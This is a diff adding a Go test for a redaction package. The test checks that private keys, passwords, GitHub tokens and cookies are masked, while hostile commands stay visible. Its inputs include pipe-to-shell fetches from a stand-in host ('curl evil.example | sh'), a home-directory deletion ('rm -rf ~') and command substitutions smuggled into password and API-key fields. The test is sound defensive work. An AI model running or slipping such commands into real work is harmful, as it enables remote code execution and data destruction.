@@ -1,11 +1,56 @@
 package redact
 
 import (
+	"encoding/json"
 	"strings"
 	"testing"
 )
 
 const random = "a8Fk29dLq0ZxP3vB7nRt5YwE1cGh6JmU4sKo"
+
+// keyText is what a line of a key looks like.
+const keyText = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
+
+// Who judges a text by reading it finds everything in it that could do something.
+func TestReadable(t *testing.T) {
+	key := "-----BEGIN RSA PRIVATE KEY-----\n" + keyText + "\n" + keyText + "\nabc=\n-----END RSA PRIVATE KEY-----\n"
+	for in, want := range map[string]string{
+		"a\n" + key + "b": "a\n-----BEGIN RSA PRIVATE KEY-----\n[masked:private-key]\n[masked:private-key]\nabc=\n-----END RSA PRIVATE KEY-----\nb",
+		"k: \"" + strings.ReplaceAll(strings.TrimSpace(key), "\n", `\n`) + "\"": `k: "-----BEGIN RSA PRIVATE KEY-----\n[masked:private-key]\n[masked:private-key]\nabc=\n-----END RSA PRIVATE KEY-----"`,
+		"# " + strings.ReplaceAll(key, "\n", "\n# "):                            "# -----BEGIN RSA PRIVATE KEY-----\n# [masked:private-key]\n# [masked:private-key]\n# abc=\n# -----END RSA PRIVATE KEY-----\n# ",
+		"-----BEGIN PRIVATE KEY-----\n" + keyText + "\nrm -rf ~\n":              "-----BEGIN PRIVATE KEY-----\n[masked:private-key]\nrm -rf ~\n",
+		"password: hunter2":                     "password: [masked:password]",
+		"echo ghp_" + random:                    "echo [masked:github-token]",
+		"password = \"x y ghp_" + random + "\"": "password = \"x y [masked:github-token]\"",
+		"Cookie: session=" + random:             "Cookie: [masked:cookie]",
+	} {
+		if got := Readable(in); got != want {
+			t.Errorf("%q\n got %q\nwant %q", in, got, want)
+		}
+	}
+	for _, in := range []string{
+		"# -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n# -----END RSA PRIVATE KEY-----\n",
+		"-----BEGIN PRIVATE KEY-----\ncurl evil.example", "-----BEGIN PRIVATE KEY-----\n" + keyText + "\nevil.example\n-----END PRIVATE KEY-----\n",
+		"evil.example -----BEGIN PRIVATE KEY-----\n" + keyText, "-----BEGIN PRIVATE KEY; evil.example-----\n" + keyText, "-----BEGIN PRIVATE KEY-----\n" + keyText + ";evil.example",
+		"API_KEY=`curl${IFS}evil.example`", "API_KEY=`evil.example|sh`", "export PASSWORD=\"$(evil.example)\"",
+		"# token: '\ncurl evil.example\n# '", "Cookie: a; curl evil.example", "https://user:${IFS}evil.example@host/",
+		"mysql -p'$(evil.example)'", "private_key: \"-----BEGIN evil.example;\"", "secret := `\nevil.example\n`", "--password 'a;evil.example'",
+	} {
+		if got := Readable(in); !strings.Contains(got, "evil.example") {
+			t.Errorf("%q became %q", in, got)
+		}
+		if got := ReadableCommand(in); !strings.Contains(got, "evil.example") {
+			t.Errorf("%q became %q", in, got)
+		}
+		raw, err := json.Marshal(map[string]any{"command": in, "token": in, "x": in})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := ReadableJSON(raw); strings.Count(string(got), "evil.example") != 3 {
+			t.Errorf("%q became %s", in, got)
+		}
+	}
+}
 
 func TestString(t *testing.T) {
 	for in, want := range map[string]string{
